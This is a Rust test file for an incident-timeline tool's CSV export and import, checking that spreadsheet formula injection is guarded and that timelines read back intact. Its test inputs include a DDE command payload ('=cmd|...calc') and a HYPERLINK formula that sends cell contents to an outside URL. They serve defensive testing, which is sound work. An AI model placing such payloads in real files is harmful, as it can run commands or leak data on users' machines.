//! CSV for spreadsheets: no cell is run, and what a timeline writes is read back.

use proptest::prelude::*;
use tenmatsu::import::markdown;
use tenmatsu::text::table::csv::{Formulas, guarded, line, unguarded};

use crate::project::{Project, small};

/// Texts that a spreadsheet would run, and some that it would not.
const TEXTS: &[&str] = &[
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "＝1+1",
    "=HYPERLINK(\"https://example.com/?x=\"&A1,\"ok\")",
    "\"=1\"",
    "'=1",
    "'tis late",
    "plain, with; marks",
    "遅延、\"引用\"",
];

/// The cells of CSV in which no cell has a line end.
fn cells(text: &str) -> Vec<Vec<String>> {
    let row = |line: &str| {
        let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
        let mut characters = line.chars().peekable();
        while let Some(next) = characters.next() {
            match next {
                '"' if quoted && characters.peek() == Some(&'"') => {
                    characters.next();
                    cell.push('"');
                }
                '"' => quoted = !quoted,
                ',' if !quoted => cells.push(std::mem::take(&mut cell)),
                other => cell.push(other),
            }
        }
        cells.push(cell);
        cells
    };
    text.split_terminator("\r\n").map(row).collect()
}

/// The columns of these names, row by row, without apostrophes.
fn columns(text: &str, names: &[&str]) -> Vec<Vec<String>> {
    let rows = cells(text);
    let index = |name: &&str| {
        rows[0]
            .iter()
            .position(|it| it == name)
            .unwrap_or_else(|| panic!("{name}: {text}"))
    };
    let wanted: Vec<_> = names.iter().map(index).collect();
    let row = |row: &Vec<String>| {
        wanted
            .iter()
            .map(|index| unguarded(&row[*index]).to_owned())
            .collect()
    };
    rows[1..].iter().map(row).collect()
}

fn output(project: &Project, arguments: &[&str]) -> String {
    let run = project.run(arguments);
    assert_eq!(run.code, 0, "{arguments:?}: {}{}", run.out, run.err);
    run.out
}

/// A record with these entries: when, until when, and what.
fn record(entries: &[(String, Option<String>, String)]) -> String {
    let mut text = small("ROWS-1");
    text.truncate(text.find("timeline:").unwrap());
    text.push_str("services: [{all: \"=1+1\"}]\ntimeline:\n");
    for (number, (at, until, said)) in entries.iter().enumerate() {
        let kind = ["event", "action", "note"][number % 3];
        let said = serde_json::to_string(&markdown(said)).unwrap();
        let until = until
            .as_ref()
            .map_or(String::new(), |until| format!(", until: {until}"));
        text.push_str(&format!(
            "  - {{id: row-{number}, at: {at}{until}, kind: {kind}, text: {{all: {said}}}, role: {{all: {said}}}, source: {said}}}\n"
        ));
    }
    text
}

#[test]
fn no_cell_is_run() {
    let entries = TEXTS
        .iter()
        .map(|text| ("2023-10-11 13:22".to_owned(), None, (*text).to_owned()));
    let entries: Vec<_> = entries.collect();
    let project = Project::new().file("incidents/ROWS-1.yaml", record(&entries));
    for arguments in [
        &["timeline", "ROWS-1", "--to", "csv"][..],
        &["stats", "--to", "csv"],
    ] {
        let out = output(&project, arguments);
        let mut guarded = 0;
        for cell in cells(&out).iter().flatten() {
            guarded += usize::from(cell.starts_with('\''));
            let is_number = cell.parse::<f64>().is_ok();
            assert!(
                !cell.starts_with(['=', '+', '@', '＝', '\t', '\r']),
                "{cell}"
            );
            assert!(!cell.starts_with('-') || is_number, "{cell}");
        }
        assert!(guarded > 0, "{out}");
        let raw = output(&project, &[arguments, &["--raw"]].concat());
        let bare = cells(&raw);
        assert!(
            bare.iter()
                .flatten()
                .any(|cell| cell == "=1+1" || cell == TEXTS[0]),
            "{raw}"
        );
    }
    for arguments in [
        &["timeline", "ROWS-1", "--raw"][..],
        &["stats", "--raw", "--to", "json"],
    ] {
        let run = project.run(arguments);
        assert_eq!((run.code, run.out.as_str()), (2, ""), "{}", run.err);
    }
}

#[test]
fn cells_that_others_wrote_keep_their_apostrophes() {
    let text = "time,event\n2025-03-09 18:58 UTC,'=1+1\n2025-03-09 18:59 UTC,'tis late\n";
    let project = Project::new().file("other.csv", text);
    let out = output(&project, &["import", "other.csv"]);
    assert!(out.contains("'=1+1") && out.contains("'tis late"), "{out}");
}

/// What is compared: all that a row says of an entry.
const SAID: &[&str] = &[
    "at_utc",
    "precision",
    "approximate",
    "until_utc",
    "until_precision",
    "kind",
    "text",
    "role",
    "source",
    "entry_id",
];

/// Reads what a timeline wrote in each way, and holds it against what was there.
fn assert_reads_back(project: &Project, arguments: &[&str]) {
    let timeline = |first: &[&str]| {
        output(
            project,
            &[&["timeline"], first, &["--to", "csv"], arguments].concat(),
        )
    };
    let written = timeline(&["ROWS-1"]);
    let wanted = columns(&written, SAID);
    project.write("rows.csv", &written);
    assert_eq!(
        columns(&timeline(&["--with", "rows.csv"]), SAID),
        wanted,
        "{written}"
    );
    // A raw file tells that it is one.
    project.write(
        "raw.csv",
        output(
            project,
            &[&["timeline", "ROWS-1", "--raw", "--to", "csv"], arguments].concat(),
        ),
    );
    assert_eq!(
        columns(&timeline(&["--with", "raw.csv"]), SAID),
        wanted,
        "{written}"
    );
    // By way of a record.
    let run = project.run(&["import", "rows.csv", "--id", "BACK-1", "--out", "incidents"]);
    assert_eq!(run.code, 0, "{}", run.err);
    let back = timeline(&["BACK-1"]);
    assert_eq!(
        columns(&back, SAID),
        wanted,
        "{}",
        project.read("incidents/BACK-1.yaml")
    );
    std::fs::remove_file(project.path().join("incidents/BACK-1.yaml")).unwrap();
}

#[test]
fn a_timeline_reads_back_in_both_languages_and_in_any_zone() {
    let times = [
        ("2023-10-11", None),
        ("~2023-10-11 13:00", None),
        ("2023-10-11 1 PM", None),
        ("2023-10-11 13:22", Some("2023-10-12")),
        ("2023-10-11 13:22:05", Some("~2023-10-11 14:00")),
        ("2023-10-12", Some("2023-10-12 1 PM")),
        ("2023-10-12 12時", None),
    ];
    let texts = TEXTS.iter().cycle();
    let entries = times.iter().zip(texts).map(|((at, until), text)| {
        (
            (*at).to_owned(),
            until.map(str::to_owned),
            (*text).to_owned(),
        )
    });
    let entries: Vec<_> = entries.collect();
    let project = Project::new().file("incidents/ROWS-1.yaml", record(&entries));
    for language in ["en", "ja"] {
        for zones in [
            &[][..],
            &["--zone", "America/New_York", "--zone", "Asia/Kathmandu"],
        ] {
            assert_reads_back(&project, &[&["--messages", language], zones].concat());
        }
    }
    let several = small("OTHER-1").replace("We are looking into it.", "Another record");
    project.write("incidents/OTHER-1.yaml", several);
    let both = output(&project, &["timeline", "ROWS-1", "OTHER-1", "--to", "csv"]);
    project.write("both.csv", &both);
    let back = output(&project, &["timeline", "--with", "both.csv", "--to", "csv"]);
    let said = [&["record"], SAID].concat();
    let without_source = |text: &str| {
        let mut rows = columns(text, &said);
        rows.iter_mut().for_each(|row| row[9].clear());
        rows
    };
    assert_eq!(without_source(&back), without_source(&both));
}

/// A file that somebody changed by hand is read as far as it can be, and the rest is said.
#[test]
fn a_file_that_was_changed_by_hand_is_read_and_what_is_wrong_is_said() {
    let head = [
        "text",
        "record",
        "at_utc",
        "at Asia/Tokyo",
        "precision",
        "approximate",
        "kind",
        "role",
    ];
    let rows = [
        [
            "'=1+1\r\nnext line",
            "A",
            "2023-10-11T04:22:00Z",
            "",
            "minute",
            "false",
            "event",
            "SRE\nteam",
        ],
        ["plain", "A", "yesterday", "", "day", "false", "event", ""],
        [
            "plain",
            "B",
            "2023-10-11T04:22:00Z",
            "",
            "century",
            "maybe",
            "parade",
            "",
        ],
    ];
    let mut text = line(head, Formulas::Raw);
    text.extend(rows.iter().map(|row| line(row, Formulas::Raw)));
    let project = Project::new().file("changed.csv", text);
    let run = project.run(&["import", "changed.csv", "--out", "drafts"]);
    assert!(
        run.err.contains("[import-time]") && run.err.contains("[import-unknown]"),
        "{}",
        run.err
    );
    let first = project.read("drafts/A.yaml");
    assert!(
        first.contains("2023-10-11 13:22\n")
            && first.contains("=1+1")
            && first.contains("SRE team"),
        "{first}"
    );
    assert!(
        project
            .read("drafts/B.yaml")
            .contains("at: 2023-10-11 13:22\n")
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, ..ProptestConfig::default() })]

    #[test]
    fn words_and_instants_come_back(
        rows in prop::collection::vec((0_i64..90_000, "[-=+@'＝＋\"a-c;,| 障害。]{0,8}[a障=]", any::<bool>()), 1..12),
        japanese in any::<bool>(),
    ) {
        let mut rows = rows;
        rows.sort();
        let entries = rows.iter().map(|(second, text, until)| {
            let clock = |second: i64| {
                let day = 10 + second / 86_400;
                format!("2023-10-{day} {:02}:{:02}:{:02}", second / 3_600 % 24, second / 60 % 60, second % 60)
            };
            (clock(*second), until.then(|| clock(second + 61)), text.clone())
        });
        let entries: Vec<_> = entries.collect();
        let project = Project::new().file("incidents/ROWS-1.yaml", record(&entries));
        // A record that has errors is not shown: its texts are no business of this test.
        if project.run(&["check", "ROWS-1"]).code == 0 {
            assert_reads_back(&project, &["--messages", if japanese { "ja" } else { "en" }]);
        }
    }

    #[test]
    fn an_apostrophe_is_taken_off_where_it_was_put(text in "['=+@＝\t\r\n \"a1-]{0,6}") {
        let cell = guarded(&text);
        prop_assert_eq!(unguarded(&cell), text.as_str());
    }
}
